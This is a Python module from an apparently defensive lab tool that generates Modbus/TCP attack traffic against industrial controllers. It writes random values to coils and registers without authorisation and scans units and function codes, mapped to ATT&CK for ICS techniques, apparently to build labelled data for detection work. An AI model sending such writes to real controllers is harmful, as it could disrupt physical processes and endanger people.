"""Commands to a controller that nobody asked for: Modbus writes, and a search for functions and units.

In: a controller inside the lab. Out: Modbus/TCP requests, answered or refused.
Must never: write anything but random values, or to a controller outside the lab.
Source: MODBUS Messaging on TCP/IP Implementation Guide V1.0b; MITRE ATT&CK for ICS.
"""

from __future__ import annotations

import contextlib
import struct
from collections.abc import Iterable
from typing import Any, Final, Literal

from thingwarden.domain.taxonomy import AttackClass
from thingwarden.lab.behaviour.act import ActKind, ActSettings
from thingwarden.lab.behaviour.attacks import breadth
from thingwarden.lab.behaviour.attacks.pacing import Rhythm
from thingwarden.lab.behaviour.protocol import modbus
from thingwarden.lab.behaviour.reach import Ending, leave
from thingwarden.lab.timeline import Aim
from thingwarden.lab.world import World

_TCP: Final = 6
_WRITE_COIL: Final = 5
_FUNCTIONS: Final = (1, 2, 3, 4, 5, 6, 7, 8, 11, 15, 16, 17, 20, 22, 23, 43)


class ModbusSettings(ActSettings):
    """Requests to each target in turn.

    Attributes:
        port: of the controller.
        period_s: from one request to the next; ``jitter`` as a part of it.
        count: requests at most.
        per_connection: after so many a new connection is opened.
        unit: addressed; a search asks others as well.
        registers: written, from a drawn one on.
        ending: how a connection is left.
        patience_s: waited for an answer.
    """

    port: int = breadth.known_port(502)
    period_s: float = breadth.number(0.5, 0.01, 60.0)
    jitter: float = breadth.one_of(0.2, 0.0, 0.05, 1.0)
    count: int = breadth.number(60, 3, 1_000)
    per_connection: int = breadth.number(60, 1, 500)
    unit: int = breadth.number(1, 1, 247)
    registers: int = breadth.number(1, 1, 100)
    ending: Ending = "close"
    patience_s: float = breadth.number(3.0, 0.5, 10.0)


class ModbusWriteSettings(ModbusSettings):
    """As ``ModbusSettings``; ``kind`` says what is written."""

    kind: Literal["coil", "register", "registers", "mixed"] = "mixed"


async def write_unasked(world: World, settings: ModbusWriteSettings) -> None:
    """Switch coils and set registers."""
    kinds = ("coil", "register", "registers") if settings.kind == "mixed" else (settings.kind,)
    requests = [_write(world, world.rng.choice(kinds), settings.registers) for _ in range(settings.count)]
    await _ask_all(world, settings, [(settings.unit, request) for request in requests])


async def find_functions(world: World, settings: ModbusSettings) -> None:
    """Ask which functions are there, of which units."""
    units = [settings.unit, *range(1, 248)]
    pairs = [(unit, bytes((function,)) + b"\0\0\0\1") for unit in units for function in _FUNCTIONS]
    await _ask_all(world, settings, pairs[: settings.count])


def _write(world: World, kind: str, registers: int) -> bytes:
    address = world.rng.randrange(400)
    if kind == "coil":
        return struct.pack(">BHH", _WRITE_COIL, address, world.rng.choice((0, 0xFF00)))
    count = 1 if kind == "register" else registers
    return modbus.write_request(address, [world.rng.randrange(65536) for _ in range(count)])


async def _ask_all(world: World, settings: ModbusSettings, requests: Iterable[tuple[int, bytes]]) -> None:
    rhythm = Rhythm(world, settings.period_s, lasts_s=settings.lasts_s, count=settings.count, jitter=settings.jitter)
    batches = _batched(list(requests), settings.per_connection)
    for number, batch in enumerate(batches):
        target = settings.targets[number % len(settings.targets)]
        with contextlib.suppress(OSError):
            stream = await world.connect(target, settings.port, timeout_s=settings.patience_s)
            with contextlib.suppress(OSError):
                for unit, request in batch:
                    if not await rhythm.beat():
                        break
                    await modbus.transact(stream, world.rng.randrange(65536), unit, request, settings.patience_s)
            await leave(world, stream, settings.ending)
        if rhythm.left_s == 0.0:
            return


def _batched(requests: list[tuple[int, bytes]], count: int) -> list[list[tuple[int, bytes]]]:
    return [requests[at : at + count] for at in range(0, len(requests), count)]


def _aims(settings: ModbusSettings) -> tuple[Aim, ...]:
    return tuple(Aim(peer=target, proto=_TCP, ports=(settings.port,)) for target in settings.targets)


INDUSTRIAL: Final[dict[str, ActKind[Any]]] = {
    "modbus_write": ActKind(
        about="Coils and registers of a controller are written by somebody who never did.",
        settings=ModbusWriteSettings,
        run=write_unasked,
        aims=_aims,
        attack_class=AttackClass.EXPLOIT,
        technique="T0855",
    ),
    "modbus_scan": ActKind(
        about="Which functions and units a controller has.",
        settings=ModbusSettings,
        run=find_functions,
        aims=_aims,
        attack_class=AttackClass.SCAN,
        technique="T0846",
    ),
}
